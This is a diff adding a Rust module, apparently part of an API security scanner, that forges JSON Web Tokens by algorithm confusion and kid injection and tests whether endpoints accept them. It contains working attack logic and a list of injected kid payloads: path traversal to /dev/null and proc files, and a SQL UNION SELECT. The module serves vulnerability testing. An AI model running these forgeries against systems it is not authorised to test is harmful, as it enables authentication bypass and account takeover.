@@ -0,0 +1,455 @@
+//! Forged-token tests: algorithm confusion and `kid` injection
+//! Algorithm confusion: a verifier that takes the algorithm from the token and the key from its key
+//! store checks an HS256 signature with the *public* key as the HMAC secret. The public key is fetched
+//! where the token points to it (`jku`, `x5u`, embedded `jwk`/`x5c`, the issuer's JWKS) or from the
+//! target's `/.well-known/jwks.json`, and tried in the encodings libraries load it in (PEM with and
+//! without the final newline, PKCS#1 PEM, DER).
+//! `kid` injection: the key id ends up in a file path or an SQL query; pointing it at `/dev/null` or a
+//! `UNION SELECT` makes the key predictable.
+//! Forged tokens keep the original claims, only header and signature change. A forgery counts as
+//! accepted when the endpoint answers it with 2xx, accepts the original token and refuses the same
+//! token with a broken signature (so it checks signatures at all).
+
+use super::jwt_analyzer::JwtVulnerability;
+use super::jwt_cracker::HmacAlg;
+use crate::filter::third_party::{on_target, HostExclusion};
+use crate::http_client::Paced;
+use base64::{engine::general_purpose, Engine as _};
+use reqwest::Client;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::time::Duration;
+
+/// Tokens tested per scan
+pub const MAX_TOKENS: usize = 5;
+
+/// Endpoints checked for signature verification per token
+pub const MAX_CANDIDATES: usize = 10;
+
+/// Verifying endpoints each token's forgeries are sent to
+const ENDPOINTS_PER_TOKEN: usize = 3;
+
+/// Public keys tried per token
+const MAX_KEYS: usize = 5;
+
+/// Bytes read of a key document
+const KEY_LIMIT: usize = 256 * 1024;
+
+/// `kid` values with the key a vulnerable lookup ends up with
+const KID_INJECTIONS: &[(&str, &str, &[u8])] = &[
+    ("path traversal to /dev/null", "../../../../../../../../dev/null", b""),
+    ("absolute path /dev/null", "/dev/null", b""),
+    ("SQL injection", "x' UNION SELECT 'apihunter'-- -", b"apihunter"),
+    ("path traversal to a known file", "../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ForgeAttack {
+    AlgorithmConfusion,
+    KidInjection,
+}
+
+impl ForgeAttack {
+    pub fn vulnerability(&self) -> JwtVulnerability {
+        match self {
+            Self::AlgorithmConfusion => JwtVulnerability::AlgorithmConfusion,
+            Self::KidInjection => JwtVulnerability::KidInjection,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ForgedToken {
+    pub attack: ForgeAttack,
+    /// Which key or `kid` it was signed with
+    pub variant: String,
+    pub alg: &'static str,
+    pub token: String,
+}
+
+/// A public key from a JWKS (or a token's `jwk` header)
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct Jwk {
+    pub kty: String,
+    pub kid: Option<String>,
+    pub crv: Option<String>,
+    pub n: Option<String>,
+    pub e: Option<String>,
+    pub x: Option<String>,
+    pub y: Option<String>,
+    /// Certificate chain, standard base64 DER
+    pub x5c: Vec<String>,
+}
+
+impl Jwk {
+    /// RSA `SEQUENCE { n, e }`
+    pub fn pkcs1_der(&self) -> Option<Vec<u8>> {
+        if self.kty != "RSA" {
+            return None;
+        }
+        let n = b64url(self.n.as_deref()?)?;
+        let e = b64url(self.e.as_deref()?)?;
+        Some(der(0x30, &[der_uint(&n), der_uint(&e)].concat()))
+    }
+
+    /// `SubjectPublicKeyInfo`, what `-----BEGIN PUBLIC KEY-----` holds
+    pub fn spki_der(&self) -> Option<Vec<u8>> {
+        let (algorithm, key) = match self.kty.as_str() {
+            "RSA" => (der(0x30, &[RSA_ENCRYPTION, DER_NULL].concat()), self.pkcs1_der()?),
+            "EC" => {
+                let curve: &[u8] = match self.crv.as_deref()? {
+                    "P-256" => &[0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07],
+                    "P-384" => &[0x06, 0x05, 0x2b, 0x81, 0x04, 0x00, 0x22],
+                    "P-521" => &[0x06, 0x05, 0x2b, 0x81, 0x04, 0x00, 0x23],
+                    _ => return None,
+                };
+                let mut point = vec![0x04];
+                point.extend(b64url(self.x.as_deref()?)?);
+                point.extend(b64url(self.y.as_deref()?)?);
+                (der(0x30, &[EC_PUBLIC_KEY, curve].concat()), point)
+            }
+            _ => return None,
+        };
+        let mut bits = vec![0x00];
+        bits.extend(key);
+        Some(der(0x30, &[algorithm, der(0x03, &bits)].concat()))
+    }
+}
+
+const RSA_ENCRYPTION: &[u8] = &[0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01];
+const EC_PUBLIC_KEY: &[u8] = &[0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01];
+const DER_NULL: &[u8] = &[0x05, 0x00];
+
+fn der(tag: u8, content: &[u8]) -> Vec<u8> {
+    let mut out = vec![tag];
+    if content.len() < 0x80 {
+        out.push(content.len() as u8);
+    } else {
+        let len: Vec<u8> = content.len().to_be_bytes().into_iter().skip_while(|b| *b == 0).collect();
+        out.push(0x80 | len.len() as u8);
+        out.extend(len);
+    }
+    out.extend_from_slice(content);
+    out
+}
+
+/// Unsigned big-endian integer: no leading zeros, but a zero byte before a set high bit
+fn der_uint(bytes: &[u8]) -> Vec<u8> {
+    let trimmed: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
+    let mut content = Vec::with_capacity(trimmed.len() + 1);
+    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
+        content.push(0);
+    }
+    content.extend(trimmed);
+    der(0x02, &content)
+}
+
+fn b64url(s: &str) -> Option<Vec<u8>> {
+    general_purpose::URL_SAFE_NO_PAD.decode(s.trim_end_matches('=')).ok()
+}
+
+/// PEM armor, 64 characters per line, ending in a newline
+pub fn pem(label: &str, der: &[u8]) -> String {
+    let b64 = general_purpose::STANDARD.encode(der);
+    let mut out = format!("-----BEGIN {}-----\n", label);
+    for line in b64.as_bytes().chunks(64) {
+        out.push_str(std::str::from_utf8(line).unwrap_or_default());
+        out.push('\n');
+    }
+    out.push_str(&format!("-----END {}-----\n", label));
+    out
+}
+
+/// Keys of a JWKS (`{"keys": [...]}`) or a single JWK
+pub fn parse_jwks(body: &str) -> Vec<Jwk> {
+    let Ok(json) = serde_json::from_str::<Value>(body) else { return Vec::new() };
+    let keys = match json.get("keys") {
+        Some(Value::Array(keys)) => keys.clone(),
+        _ if json.get("kty").is_some() => vec![json],
+        _ => return Vec::new(),
+    };
+    keys.into_iter().filter_map(|k| serde_json::from_value(k).ok()).collect()
+}
+
+/// HMAC secrets a confused verifier may derive from `key`, labelled by encoding
+pub fn key_secrets(key: &Jwk) -> Vec<(String, Vec<u8>)> {
+    let name = key.kid.as_deref().map(|k| format!("{} key '{}'", key.kty, k)).unwrap_or_else(|| format!("{} key", key.kty));
+    let mut out = Vec::new();
+    if let Some(spki) = key.spki_der() {
+        out.extend(pem_secrets(&pem("PUBLIC KEY", &spki), &name));
+        out.push((format!("{}, DER", name), spki));
+    }
+    if let Some(pkcs1) = key.pkcs1_der() {
+        out.push((format!("{}, PKCS#1 PEM", name), pem("RSA PUBLIC KEY", &pkcs1).into_bytes()));
+    }
+    if let Some(cert) = key.x5c.first().and_then(|c| general_purpose::STANDARD.decode(c).ok()) {
+        out.push((format!("{}, certificate PEM", name), pem("CERTIFICATE", &cert).into_bytes()));
+    }
+    out
+}
+
+/// A PEM document as served, with and without the final newline
+pub fn pem_secrets(pem: &str, name: &str) -> Vec<(String, Vec<u8>)> {
+    let trimmed = pem.trim_end();
+    vec![
+        (format!("{}, PEM", name), format!("{}\n", trimmed).into_bytes()),
+        (format!("{}, PEM without final newline", name), trimmed.as_bytes().to_vec()),
+    ]
+}
+
+fn split(token: &str) -> Option<(Value, Value, &str)> {
+    let mut parts = token.trim().split('.');
+    let (header, payload, _) = (parts.next()?, parts.next()?, parts.next()?);
+    if parts.next().is_some() {
+        return None;
+    }
+    let decode = |p: &str| b64url(p).and_then(|b| serde_json::from_slice::<Value>(&b).ok());
+    Some((decode(header)?, decode(payload)?, payload))
+}
+
+/// The token's header and claims
+pub fn decode(token: &str) -> Option<(Value, Value)> {
+    split(token).map(|(h, p, _)| (h, p))
+}
+
+/// `token` with `header` and the original payload, signed with `secret`
+pub fn resign(token: &str, mut header: Value, alg: HmacAlg, secret: &[u8]) -> Option<String> {
+    let (_, _, payload) = split(token)?;
+    header["alg"] = Value::from(alg.name());
+    let header = general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(&header).ok()?);
+    let message = format!("{}.{}", header, payload);
+    let signature = general_purpose::URL_SAFE_NO_PAD.encode(alg.sign(secret, message.as_bytes()));
+    Some(format!("{}.{}", message, signature))
+}
+
+/// `token` with one signature character changed
+pub fn tamper(token: &str) -> String {
+    let token = token.trim();
+    let Some((message, signature)) = token.rsplit_once('.') else { return token.to_string() };
+    let mut sig: Vec<char> = signature.chars().collect();
+    // The middle character: the last one may only carry padding bits
+    if let Some(c) = sig.get_mut(signature.len() / 2) {
+        *c = if *c == 'A' { 'B' } else { 'A' };
+    }
+    format!("{}.{}", message, sig.into_iter().collect::<String>())
+}
+
+/// HMAC algorithm of the same hash size, for RS*/PS*/ES* tokens
+pub fn confusion_alg(alg: &str) -> Option<HmacAlg> {
+    let alg = alg.to_ascii_uppercase();
+    if !["RS", "PS", "ES"].iter().any(|p| alg.starts_with(p)) {
+        return None;
+    }
+    HmacAlg::parse(&format!("HS{}", &alg[2..])).or(Some(HmacAlg::Hs256))
+}
+
+/// HS tokens signed with the public key in each encoding; none if the token isn't asymmetric
+pub fn confusion_tokens(token: &str, secrets: &[(String, Vec<u8>)]) -> Vec<ForgedToken> {
+    let Some((header, _)) = decode(token) else { return Vec::new() };
+    let Some(alg) = header["alg"].as_str().and_then(confusion_alg) else { return Vec::new() };
+    secrets.iter()
+        .filter_map(|(variant, secret)| Some(ForgedToken {
+            attack: ForgeAttack::AlgorithmConfusion,
+            variant: variant.clone(),
+            alg: alg.name(),
+            token: resign(token, header.clone(), alg, secret)?,
+        }))
+        .collect()
+}
+
+/// Tokens with an injected `kid`, signed with the key the injection selects
+pub fn kid_tokens(token: &str) -> Vec<ForgedToken> {
+    let Some((header, _)) = decode(token) else { return Vec::new() };
+    let alg = header["alg"].as_str().and_then(HmacAlg::parse).unwrap_or(HmacAlg::Hs256);
+    KID_INJECTIONS.iter()
+        .filter_map(|(variant, kid, secret)| {
+            let mut header = header.clone();
+            header["kid"] = Value::from(*kid);
+            Some(ForgedToken { attack: ForgeAttack::KidInjection, variant: variant.to_string(), alg: alg.name(), token: resign(token, header, alg, secret)? })
+        })
+        .collect()
+}
+
+/// Keys carried in the header itself (`jwk`, `x5c`)
+pub fn embedded_keys(header: &Value) -> Vec<Jwk> {
+    let mut keys: Vec<Jwk> = header.get("jwk").and_then(|j| serde_json::from_value(j.clone()).ok()).into_iter().collect();
+    if let Some(chain) = header["x5c"].as_array() {
+        let x5c: Vec<String> = chain.iter().filter_map(|c| c.as_str().map(String::from)).collect();
+        if !x5c.is_empty() {
+            keys.push(Jwk { kty: "X.509".to_string(), x5c, ..Default::default() });
+        }
+    }
+    keys
+}
+
+/// Where the token's public key may be found: `jku`/`x5u`, the issuer's and each origin's JWKS.
+/// The first three come from the token and may point anywhere; `JwtForger` checks the scope before fetching.
+pub fn key_urls(token: &str, origins: &[String]) -> Vec<String> {
+    let Some((header, payload)) = decode(token) else { return Vec::new() };
+    let mut urls: Vec<String> = ["jku", "x5u"].iter().filter_map(|k| header[*k].as_str()).map(String::from).collect();
+    if let Some(iss) = payload["iss"].as_str().filter(|i| i.starts_with("http")) {
+        urls.push(format!("{}/.well-known/jwks.json", iss.trim_end_matches('/')));
+    }
+    urls.extend(origins.iter().map(|o| format!("{}/.well-known/jwks.json", o.trim_end_matches('/'))));
+    let mut seen = std::collections::HashSet::new();
+    urls.retain(|u| u.starts_with("http") && seen.insert(u.clone()));
+    urls
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct ForgeFinding {
+    pub url: String,
+    pub attack: ForgeAttack,
+    pub variant: String,
+    pub severity: String,
+    /// Algorithm of the original token and of the accepted forgery
+    pub original_alg: String,
+    pub forged_alg: String,
+    pub status: u16,
+    pub forged_token: String,
+}
+
+pub struct JwtForger {
+    client: Client,
+    /// For key URLs off the target (an IdP's JWKS, a `jku` host)
+    third_party: Client,
+    domain: String,
+    exclusion: HostExclusion,
+    timeout: Duration,
+}
+
+impl JwtForger {
+    /// `client` must not carry credentials of its own (see `http_client::builder_unauthenticated`)
+    pub fn new(client: Client, timeout: Duration, domain: &str) -> Self {
+        Self {
+            client,
+            third_party: crate::http_client::third_party().build().unwrap_or_default(),
+            domain: domain.to_string(),
+            exclusion: HostExclusion::new(true, &[], &[]),
+            timeout,
+        }
+    }
+
+    /// Hosts key URLs are never fetched from (`--exclude-host`, `--include-host`, the default list)
+    pub fn with_exclusion(mut self, exclusion: HostExclusion) -> Self {
+        self.exclusion = exclusion;
+        self
+    }
+
+    /// Client for a key URL, none if its host is out of scope
+    fn key_client(&self, url: &str) -> Option<&Client> {
+        if on_target(url, &self.domain) {
+            return Some(&self.client);
+        }
+        let host = url::Url::parse(url).ok()?.host_str()?.to_string();
+        if self.exclusion.is_excluded(&host, &self.domain) {
+            tracing::debug!("JWT forge: skipping out-of-scope key URL {}", url);
+            return None;
+        }
+        Some(&self.third_party)
+    }
+
+    async fn status(&self, url: &str, token: &str) -> Option<u16> {
+        let resp = self.client.get(url)
+            .timeout(self.timeout)
+            .header(reqwest::header::AUTHORIZATION, format!("Bearer {}", token))
+            .send_paced()
+            .await
+            .ok()?;
+        Some(resp.status().as_u16())
+    }
+
+    /// The endpoint accepts `token` and refuses it with a broken signature
+    pub async fn verifies(&self, url: &str, token: &str) -> bool {
+        match self.status(url, token).await {
+            Some(s) if (200..300).contains(&s) => matches!(self.status(url, &tamper(token)).await, Some(401 | 403)),
+            _ => false,
+        }
+    }
+
+    /// Public keys for `token`, as HMAC secrets in every encoding. Key URLs off the target are fetched
+    /// without the target client, and not at all from excluded hosts.
+    pub async fn fetch_secrets(&self, token: &str, origins: &[String]) -> Vec<(String, Vec<u8>)> {
+        let Some((header, _)) = decode(token) else { return Vec::new() };
+        let kid = header["kid"].as_str();
+        let mut keys = embedded_keys(&header);
+        let mut secrets = Vec::new();
+        for url in key_urls(token, origins) {
+            if keys.len() >= MAX_KEYS {
+                break;
+            }
+            let Some(client) = self.key_client(&url) else { continue };
+            let Ok(resp) = client.get(&url).timeout(self.timeout).send_paced().await else { continue };
+            if !resp.status().is_success() {
+                continue;
+            }
+            let Ok((bytes, _)) = crate::probe::http_probe::read_limited(resp, KEY_LIMIT).await else { continue };
+            let body = String::from_utf8_lossy(&bytes);
+            if body.contains("-----BEGIN") {
+                secrets.extend(pem_secrets(&body, &url));
+                continue;
+            }
+            let mut found = parse_jwks(&body);
+            // The token's own key first when the set is large
+            found.sort_by_key(|k| k.kid.as_deref() != kid || kid.is_none());
+            tracing::info!("JWT forge: {} keys at {}", found.len(), url);
+            keys.extend(found);
+        }
+        keys.truncate(MAX_KEYS);
+        secrets.extend(keys.iter().flat_map(key_secrets));
+        secrets
+    }
+
+    /// Forge `token` and send the forgeries to the first few `candidates` that verify it
+    pub async fn test_token(&self, token: &str, candidates: &[String], origins: &[String]) -> Vec<ForgeFinding> {
+        let Some((header, _)) = decode(token) else { return Vec::new() };
+        let original_alg = header["alg"].as_str().unwrap_or("none").to_string();
+        let mut endpoints = Vec::new();
+        for url in candidates.iter().take(MAX_CANDIDATES) {
+            if self.verifies(url, token).await {
+                endpoints.push(url.clone());
+                if endpoints.len() >= ENDPOINTS_PER_TOKEN {
+                    break;
+                }
+            }
+        }
+        if endpoints.is_empty() {
+            tracing::info!("JWT forge: no endpoint verifies the {} token", original_alg);
+            return Vec::new();
+        }
+
+        let mut forged = kid_tokens(token);
+        if confusion_alg(&original_alg).is_some() {
+            let secrets = self.fetch_secrets(token, origins).await;
+            forged.extend(confusion_tokens(token, &secrets));
+        }
+
+        let mut findings = Vec::new();
+        for url in &endpoints {
+            for attack in [ForgeAttack::AlgorithmConfusion, ForgeAttack::KidInjection] {
+                // One accepted forgery per attack and endpoint is enough
+                for f in forged.iter().filter(|f| f.attack == attack) {
+                    match self.status(url, &f.token).await {
+                        Some(status) if (200..300).contains(&status) => {
+                            findings.push(ForgeFinding {
+                                url: url.clone(),
+                                attack,
+                                variant: f.variant.clone(),
+                                severity: "HIGH".to_string(),
+                                original_alg: original_alg.clone(),
+                                forged_alg: f.alg.to_string(),
+                                status,
+                                forged_token: f.token.clone(),
+                            });
+                            break;
+                        }
+                        _ => continue,
+                    }
+                }
+            }
+        }
+        findings
+    }
+}